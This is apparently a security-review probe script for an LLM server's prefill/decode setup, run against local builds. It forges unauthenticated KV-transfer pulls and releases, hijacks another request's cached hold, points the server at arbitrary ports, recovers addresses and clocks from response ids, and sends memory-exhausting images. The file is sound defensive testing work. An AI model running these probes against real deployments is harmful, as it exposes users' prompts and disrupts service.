"""secure_findings.py -- the probes of a security review of prefill/decode disaggregation, the proxy,
the response ids and images, one per finding, against a given k3 binary (so the same command runs on
an older build and a newer one). Every instance is started with --api-key; the attacker never has
the transfer secret (K3_KV_TRANSFER_SECRET, set for the instances; an older build ignores it).

  transfer  raw clients without any key against a prefill instance's transfer port: a PULL with a
            zeroed model identity (what its error names; whether the hold survives), RELEASEs of
            guessed hold ids, a PULL with the identity an error leaked (row bytes received); the
            same as a client that speaks the authenticated protocol without the secret
  params    a client of a decode instance (with the API key) sending kv_transfer_params naming
            another request's hold (no prompt_hash): whose continuation it gets; remote_host /
            remote_port naming a closed, a silent and a talking loopback port of this script: did
            the decode instance connect, and do its errors tell the three apart
  proxy     the robustness probes of bench/robust_findings.py (halfclose, framing, auth: 200
            unauthenticated 4 MiB bodies and a lower-case bearer, slowloris, sigterm) against the
            proxy (tests/pd_as_serve.py: a prefill, a decode instance and the proxy started as one
            `k3 serve`), then proxyown
  proxyown  the proxy's own: x-api-key; /health with both backends killed; --api-key "" 
  robust    tests/serve_robust.py run against the proxy unchanged: its closing line
  ids       one resp_ and one cmpl- id taken apart as an attacker would: the splitmix64 finalizer
            inverted on their 64-bit words; is a word (or two words' xor) an address in k3's
            mapping (/proc/PID/maps), a counter, the clock?
  images    one chat request with 15 PNGs of 8192x8192 on tests/models/vision-tiny: its status,
            the server's peak RSS (VmHWM) and time
Usage: python3 bench/secure_findings.py K3_BINARY FINDING...   (stdlib only; 'proxy' and 'robust'
need the openai client: run them with the project's .venv python)
"""
import base64
import json
import os
import re
import resource
import secrets
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
import zlib

K3 = os.path.abspath(sys.argv[1])
WHICH = sys.argv[2:]
TINY, VISION = "tests/models/tiny", "tests/models/vision-tiny"
KEY = "user-key"
SECRET = secrets.token_hex(32)
os.environ["K3_KV_TRANSFER_SECRET"] = SECRET
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
M64 = (1 << 64) - 1


class Proc:
    def __init__(self, args, wait=90):
        self.proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        self.log, self.port, self.kv_port = b"", None, None
        deadline = time.time() + wait
        while time.time() < deadline and self.port is None:
            r, _, _ = select.select([self.proc.stderr], [], [], 1.0)
            if not r:
                if self.proc.poll() is not None:
                    break
                continue
            c = os.read(self.proc.stderr.fileno(), 4096)
            if not c:
                break
            self.log += c
            m = re.search(rb"listening on http://[^:]+:(\d+)", self.log)
            if m:
                self.port = int(m.group(1))
        m = re.search(rb"kv transfer listening on [^ ]*?:(\d+)", self.log)
        self.kv_port = int(m.group(1)) if m else None
        threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self):
        while True:
            try:
                c = os.read(self.proc.stderr.fileno(), 4096)
            except OSError:
                return
            if not c:
                return
            self.log += c

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(20)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


def serve(model, *extra):
    return Proc([K3, "serve", "-m", model, "--port", "0", "--threads", "1", "--api-key", KEY, *extra])


def http(port, method, path, body=None, headers=None, timeout=60):
    h = {"Authorization": "Bearer " + KEY}
    h.update(headers or {})
    data = None
    if body is not None:
        data = json.dumps(body).encode()
        h["Content-Type"] = "application/json"
    rq = urllib.request.Request("http://127.0.0.1:%d%s" % (port, path), data, h, method=method)
    try:
        with urllib.request.urlopen(rq, timeout=timeout) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def metric(port, name):
    _, t = http(port, "GET", "/metrics")
    for ln in t.decode().splitlines():
        if ln.startswith(name + "{") or ln.startswith(name + " "):
            return float(ln.rsplit(" ", 1)[1])
    return None


def make_hold(pre, prompt):
    """A request of its own on the prefill instance (as the proxy sends it): its hold's params."""
    st, b = http(pre.port, "POST", "/v1/completions", {"prompt": prompt, "max_tokens": 1, "temperature": 0,
                                                        "kv_transfer_params": {"do_remote_decode": True}})
    assert st == 200, (st, b[:300])
    return json.loads(b)["kv_transfer_params"]


# ---- the transfer stream as it was (version 1): 96-byte requests sealed by k3_pd_sum ----

def rotl(x, r):
    return ((x << r) | (x >> (64 - r))) & M64


def pd_sum_small(b):
    """k3_pd_sum of fewer than 256 bytes (the lanes untouched, the tail folded)."""
    n = len(b)
    P1, P2 = 0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F
    a = [(((j + 1) * 0x85EBCA77) & 0xFFFFFFFF) ^ (n & 0xFFFFFFFF) ^ (n >> 32) for j in range(64)]
    h = P1 ^ n
    for x in a:
        h = (rotl(h ^ ((x * P2) & M64), 27) * P1) & M64
    i = 0
    while i + 8 <= n:
        w = struct.unpack_from("<Q", b, i)[0]
        h = (rotl(h ^ ((w * P2) & M64), 27) * P1 + 0x85EBCA77C2B2AE63) & M64
        i += 8
    for c in b[i:]:
        h = (rotl(h ^ ((c * P1) & M64), 11) * P2) & M64
    h ^= h >> 33
    h = (h * P2) & M64
    h ^= h >> 29
    return h


def v1_request(op, hold, ident=(0, b"", 0, 0), frm=0, to=0):
    model, quant, kv, block = ident
    body = b"K3PD" + struct.pack("<HHQ", 1, op, hold) + struct.pack("<Q24sIi", model, quant, kv, block) + \
        struct.pack("<qqqQ", frm, to, 1 << 20, 0)
    return body + struct.pack("<Q", pd_sum_small(body))


def v1_exchange(port, raw, limit=64 << 20, timeout=10):
    """Sends raw, reads to the end: (bytes received, error message or None, unit kinds seen)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.sendall(raw)
    data = b""
    try:
        while len(data) < limit:
            d = s.recv(1 << 20)
            if not d:
                break
            data += d
    except OSError:
        pass
    s.close()
    kinds, err, pos, payload = [], None, 0, 0
    while pos + 96 <= len(data) and data[pos:pos + 4] == b"K3KV":
        kind = struct.unpack_from("<H", data, pos + 6)[0]
        nb = struct.unpack_from("<Q", data, pos + 72)[0]
        if kind == 4:
            err = data[pos + 96:pos + 96 + nb].decode(errors="replace")
        else:
            payload += nb
        kinds.append(kind)
        pos += 96 + nb
    return len(data), err, kinds, payload


def v2_attempt(port):
    """An attacker that speaks the authenticated protocol (version 2) without the secret: its
    hello, the server's, a made-up proof and a pull; what comes back."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(b"K3PH" + struct.pack("<HH", 2, 1) + os.urandom(32) + b"\0" * 32)
    data = b""
    try:
        while len(data) < 72:
            d = s.recv(4096)
            if not d:
                break
            data += d
        s.sendall(b"K3PH" + struct.pack("<HH", 2, 3) + b"\0" * 32 + os.urandom(32) + b"\0" * 136)
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
    except OSError:
        pass
    s.close()
    return len(data)


def transfer():
    pre = serve(TINY, "--role", "prefill", "--kv-transfer-port", "0")
    try:
        port = pre.kv_port
        print("transfer: prefill instance with --api-key; its transfer port %s" % port, flush=True)
        kv = make_hold(pre, "The victim's private prompt about a merger")
        print("transfer: a hold made for a request: remote_request_id %r" % kv["remote_request_id"], flush=True)
        holds0 = metric(pre.port, "k3:kv_holds")
        n, err, kinds, _ = v1_exchange(port, v1_request(1, 1))
        for h in range(2, 9):
            v1_exchange(port, v1_request(1, h))
        holds1 = metric(pre.port, "k3:kv_holds")
        print("transfer: PULL of hold ids 1..8 with a zeroed identity: %d bytes back; error: %r; holds %s -> %s" %
              (n, err, holds0, holds1), flush=True)
        leaked = None
        m = re.search(r"the prefill instance runs model ([0-9a-f]{16}), quant (\S+), kv-cache (\w+), block (\d+)",
                      err or "")
        if m:
            q = m.group(2).rstrip(",")
            leaked = (int(m.group(1), 16), b"" if q == "none" else q.encode(), 1 if m.group(3) == "c8" else 0,
                      int(m.group(4)))
        print("transfer: identity leaked by the error: %s" % ("yes, %016x" % leaked[0] if leaked else "no"),
              flush=True)
        make_hold(pre, "A second user's prompt")
        h0 = metric(pre.port, "k3:kv_holds")
        for h in range(1, 17):
            v1_exchange(port, v1_request(2, h))
        time.sleep(0.5)
        print("transfer: RELEASE of hold ids 1..16 without any key: holds %s -> %s" %
              (h0, metric(pre.port, "k3:kv_holds")), flush=True)
        kv3 = make_hold(pre, "A third user's secret prompt, pulled by nobody yet")
        got, units = 0, 0
        if leaked:  # the prompt's length guessed right (a wrong guess is refused, naming it)
            for h in range(1, 17):
                n, err, kinds, payload = v1_exchange(port, v1_request(1, h, leaked, 0, kv3["num_tokens"]))
                if payload:
                    got += payload
                    units += len(kinds)
        print("transfer: PULL with the leaked identity (hold ids 1..16, the prompt's length): %d bytes of rows and "
              "state in %d units received" % (got, units), flush=True)
        n = v2_attempt(port)
        print("transfer: a client speaking the authenticated protocol without the secret: %d bytes back; "
              "holds now %s (hold %r still there: %s)" %
              (n, metric(pre.port, "k3:kv_holds"), kv3["remote_request_id"],
               "yes" if metric(pre.port, "k3:kv_holds") else "no"), flush=True)
    finally:
        pre.stop()


def params():
    pre = serve(TINY, "--role", "prefill", "--kv-transfer-port", "0", "--max-num-seqs", "4")
    dec = serve(TINY, "--role", "decode")
    col = serve(TINY)
    try:
        victim = "Tell me the access code for the east wing vault"
        attacker = "Hello hello hello hello hello hello hello hello"
        kv = make_hold(pre, victim)
        ntok = kv["num_tokens"]
        words = attacker.split()
        # the attacker's prompt is the victim's length in tokens (as it would pad its own)
        st, b = http(col.port, "POST", "/tokenize", {"prompt": attacker})
        toks = json.loads(b)["tokens"] if st == 200 else []
        want = [toks[0]] * ntok if toks else None
        forged = {k: v for k, v in kv.items() if k != "prompt_hash"}
        body = {"prompt": want or " ".join(words), "max_tokens": 16, "temperature": 0, "ignore_eos": True,
                "kv_transfer_params": forged}
        st, b = http(dec.port, "POST", "/v1/completions", body)
        got = json.loads(b)["choices"][0]["text"] if st == 200 else None
        _, vb = http(col.port, "POST", "/v1/completions", {"prompt": victim, "max_tokens": 16, "temperature": 0,
                                                            "ignore_eos": True})
        _, ab = http(col.port, "POST", "/v1/completions", {"prompt": want or attacker, "max_tokens": 16,
                                                           "temperature": 0, "ignore_eos": True})
        vt, at = json.loads(vb)["choices"][0]["text"], json.loads(ab)["choices"][0]["text"]
        print("params: another request's hold without prompt_hash: status %d; the answer is %s" %
              (st, "the victim's continuation" if got == vt and vt != at else
               "the attacker's own continuation" if got == at else "neither (%r)" % (b[:160],)), flush=True)
        # remote_host/remote_port at ports of this script's own
        closed = socket.socket()
        closed.bind(("127.0.0.1", 0))
        cport = closed.getsockname()[1]
        closed.close()
        silent = socket.socket()
        silent.bind(("127.0.0.1", 0))
        silent.listen(16)
        talk = socket.socket()
        talk.bind(("127.0.0.1", 0))
        talk.listen(16)
        seen = {"silent": [], "talking": []}

        def accept(sock, name, answer):
            sock.settimeout(40)
            try:
                while True:
                    c, _ = sock.accept()
                    c.settimeout(2)
                    d = b""
                    try:
                        d = c.recv(4096)
                    except OSError:
                        pass
                    seen[name].append(len(d))
                    if answer:
                        c.sendall(b"HTTP/1.1 200 OK\r\n\r\nhello")
                        c.close()
            except OSError:
                pass

        threading.Thread(target=accept, args=(silent, "silent", False), daemon=True).start()
        threading.Thread(target=accept, args=(talk, "talking", True), daemon=True).start()
        errs = {}
        for name, port in (("closed", cport), ("silent", silent.getsockname()[1]),
                           ("talking", talk.getsockname()[1])):
            p = dict(forged, remote_host="127.0.0.1", remote_port=port, prompt_hash=None)
            p.pop("prompt_hash")
            t0 = time.time()
            st, b = http(dec.port, "POST", "/v1/completions", {"prompt": want or attacker, "max_tokens": 4,
                                                               "kv_transfer_params": p}, timeout=120)
            try:
                msg = json.loads(b)["error"]["message"]
            except (ValueError, KeyError, TypeError):
                msg = b[:120].decode(errors="replace")
            errs[name] = (st, msg, time.time() - t0)
        conns = len(seen["silent"]) + len(seen["talking"])
        print("params: remote_host/remote_port at this script's loopback ports: the decode instance connected "
              "%d times (%d bytes sent to them)" % (conns, sum(seen["silent"]) + sum(seen["talking"])), flush=True)
        for name, (st, msg, dt) in errs.items():
            print("params:   %s port: status %d after %.1f s: %s" % (name, st, dt, msg[:150]), flush=True)
        distinct = len({re.sub(r"\d+", "N", m) for _, m, _ in errs.values()})
        print("params: the three ports' errors are %s" %
              ("told apart (%d kinds)" % distinct if distinct > 1 else "the same"), flush=True)
        silent.close()
        talk.close()
    finally:
        for p in (pre, dec, col):
            p.stop()


def proxy_pid(wrapper_pid):
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            stat = open("/proc/%s/stat" % d).read()
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            cmd = open("/proc/%s/cmdline" % d, "rb").read().split(b"\0")
        except (OSError, IndexError, ValueError):
            continue
        if ppid == wrapper_pid and b"proxy" in cmd:
            return int(d)
    return wrapper_pid


def proxy():
    here = os.path.dirname(os.path.abspath(__file__))
    os.environ["K3_BIN"] = K3
    sys.argv = [sys.argv[0], os.path.join(here, "..", "tests", "pd_as_serve.py")]
    sys.path.insert(0, here)
    import robust_findings as rf
    rf.Server.pid = lambda self: proxy_pid(self.proc.pid)
    for fn in (rf.halfclose, rf.framing, rf.auth, rf.slowloris, rf.sigterm):
        fn()
    proxyown(rf)


def proxyown(rf=None):
    if rf is None:
        here = os.path.dirname(os.path.abspath(__file__))
        os.environ["K3_BIN"] = K3
        sys.argv = [sys.argv[0], os.path.join(here, "..", "tests", "pd_as_serve.py")]
        sys.path.insert(0, here)
        import robust_findings as rf
    s = rf.Server("--api-key", "k")
    try:
        d, _ = rf.talk(s.port, rf.req("GET", "/v1/models", None, {"x-api-key": "k"}), timeout=10)
        print("proxy: x-api-key: k (the Anthropic SDK's header): status %d" % rf.status(d), flush=True)
    finally:
        s.stop()
    # /health with its backends dead (started here: tests/pd_as_serve.py ends with an instance)
    pre = Proc([K3, "serve", "-m", TINY, "--port", "0", "--threads", "1", "--role", "prefill",
                "--kv-transfer-port", "0"])
    dec = Proc([K3, "serve", "-m", TINY, "--port", "0", "--threads", "1", "--role", "decode"])
    px = Proc([K3, "serve", "--role", "proxy", "--port", "0", "--prefill", "http://127.0.0.1:%d" % pre.port,
               "--decode", "http://127.0.0.1:%d" % dec.port])
    try:
        before = http(px.port, "GET", "/health")[0]
        for b in (pre, dec):
            b.proc.kill()
            b.proc.wait()
        time.sleep(4)
        print("proxy: /health %d; with both backends killed (4 s later) /health %d" %
              (before, http(px.port, "GET", "/health")[0]), flush=True)
    finally:
        for p in (px, pre, dec):
            p.stop()
    # --api-key "" on the proxy itself
    e = Proc([K3, "serve", "--role", "proxy", "--api-key", "", "--port", "0", "--prefill", "http://127.0.0.1:1",
              "--decode", "http://127.0.0.1:2"], wait=5)
    if e.port:
        st = http(e.port, "GET", "/v1/models", headers={"Authorization": ""})[0]
        print("proxy: --api-key \"\": it started; GET /v1/models without a key: status %d (auth off)" % st, flush=True)
    else:
        e.proc.wait(10)
        print("proxy: --api-key \"\": refused to start (exit %d): %s" %
              (e.proc.returncode, e.log.decode(errors="replace").strip().splitlines()[-1]), flush=True)
    e.stop()


def robust():
    py = sys.executable
    env = dict(os.environ, K3_BIN=K3)
    r = subprocess.run([py, "tests/serve_robust.py", "tests/pd_as_serve.py"], capture_output=True, text=True,
                       env=env, timeout=1200)
    for ln in r.stdout.splitlines():
        if ln.startswith("FAIL") or ln.startswith("robust:"):
            print("robust: " + ln[:160] if not ln.startswith("robust:") else ln, flush=True)


def unmix(z):
    """The inverse of splitmix64's finalizer (x += golden; x ^= x>>30; *= ...; x ^= x>>27; *= ...; ^= >>31)."""
    def unxorshift(x, s):
        r = x
        for _ in range(64 // s + 1):
            r = x ^ (r >> s)
        return r & M64
    z = unxorshift(z, 31)
    z = (z * pow(0x94d049bb133111eb, -1, 1 << 64)) & M64
    z = unxorshift(z, 27)
    z = (z * pow(0xbf58476d1ce4e5b9, -1, 1 << 64)) & M64
    z = unxorshift(z, 30)
    return (z - 0x9e3779b97f4a7c15) & M64


def b62_words(s):
    abc = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    out = []
    for half in (s[:12], s[12:24]):
        v = 0
        for c in reversed(half):
            v = v * 62 + abc.index(c)
        out.append(v & M64)
    return out


def ids():
    s = serve(TINY)
    try:
        lines = open("/proc/%d/maps" % s.proc.pid).read().splitlines()
        maps = []
        for i, ln in enumerate(lines):
            a, b = (int(x, 16) for x in ln.split()[0].split("-"))
            if os.path.basename(ln.split()[-1]) == os.path.basename(K3):
                maps.append((a, b, ln))
            elif maps and len(ln.split()) == 5 and maps[-1][1] == a:  # the .bss right after the binary's data
                maps.append((a, b, ln + " (k3's .bss)"))

        def in_k3(x):
            return any(a <= x < b for a, b, _ in maps)

        st, b = http(s.port, "POST", "/v1/responses", {"input": "hi", "max_output_tokens": 1})
        rid = json.loads(b)["id"]
        found = []
        try:
            a, w = b62_words(rid[len("resp_"):])
            ptr = unmix(w) ^ a
            if in_k3(ptr):
                found.append("an address in k3's own mapping, 0x%x (%s)" % (ptr, [ln for x, y, ln in maps
                                                                                if x <= ptr < y][0]))
            ua = unmix(a)
            t_ns = time.time_ns()
            for guess in range(0, 1 << 12):  # the counter is small: its xor leaves the clock's mix
                t = unmix(ua ^ guess)
                if abs(t - t_ns) < 60 * 10 ** 9:
                    found.append("the clock (%d ns, %+.3f s from now) xor a counter %d" % (t, (t - t_ns) / 1e9,
                                                                                              guess))
                    break
        except ValueError:
            pass
        print("ids: %s -> %s" % (rid, "; ".join(found) if found else "no pointer, counter or clock found"),
              flush=True)
        cids = []
        for _ in range(3):
            st, b = http(s.port, "POST", "/v1/completions", {"prompt": "hi", "max_tokens": 1})
            cids.append(json.loads(b)["id"])
        try:
            vals = [unmix(int(c.split("-")[1], 16)) for c in cids]
        except ValueError:  # not the 16 hex digits of the old form
            vals = [unmix(b62_words(c.split("-")[1])[0]) for c in cids]
        now = int(time.time())
        clocks = [v >> 20 for v in vals]
        ctr = [v & 0xFFFFF for v in vals]
        leak = all(abs(c - now) < 60 for c in clocks)
        print("ids: %s -> %s" % (", ".join(cids), "the clock %s s and a counter %s" % (clocks, ctr) if leak else
                                 "no counter or clock found"), flush=True)
    finally:
        s.stop()


def png(w, h):
    raw = zlib.compress((b"\0" + b"\x80" * (3 * w)) * h, 9)

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + \
        chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def vmhwm(pid):
    for ln in open("/proc/%d/status" % pid):
        if ln.startswith("VmHWM:"):
            return int(ln.split()[1]) / 1024
    return -1


def images():
    img = "data:image/png;base64," + base64.b64encode(png(8192, 8192)).decode()
    s = serve(VISION, "--max-body-bytes", str(16 << 20))
    try:
        parts = [{"type": "image_url", "image_url": {"url": img}} for _ in range(15)]
        body = {"messages": [{"role": "user", "content": parts + [{"type": "text", "text": "What is this?"}]}],
                "max_tokens": 1}
        r0 = vmhwm(s.proc.pid)
        t0 = time.time()
        st, b = http(s.port, "POST", "/v1/chat/completions", body, timeout=900)
        msg = ""
        if st != 200:
            try:
                msg = json.loads(b)["error"]["message"]
            except (ValueError, KeyError):
                msg = b[:200].decode(errors="replace")
        print("images: 15 PNGs of 8192x8192 (%.1f MB request): status %d after %.1f s; peak RSS %.0f MB -> %.0f MB%s"
              % (len(json.dumps(body)) / 1e6, st, time.time() - t0, r0, vmhwm(s.proc.pid),
                 ("; " + msg[:200]) if msg else ""), flush=True)
    finally:
        s.stop()


if __name__ == "__main__":
    for w in WHICH:
        globals()[w]()
